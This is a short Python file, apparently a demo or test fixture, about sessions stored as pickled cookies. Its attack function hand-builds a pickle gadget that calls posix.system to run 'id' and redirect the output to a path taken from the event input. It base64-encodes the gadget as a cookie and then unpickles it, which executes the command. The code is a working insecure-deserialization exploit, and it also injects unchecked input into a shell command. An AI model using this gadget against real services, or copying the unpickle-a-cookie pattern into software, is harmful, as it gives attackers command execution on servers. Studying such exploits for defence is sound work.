"""A session kept as a pickle in a cookie."""

import base64
import pickle


def attack(event):
    gadget = b"cposix\nsystem\n(S'id >%s'\ntR." % event["out"].encode()
    cookie = base64.b64encode(gadget)
    return pickle.loads(base64.b64decode(cookie))
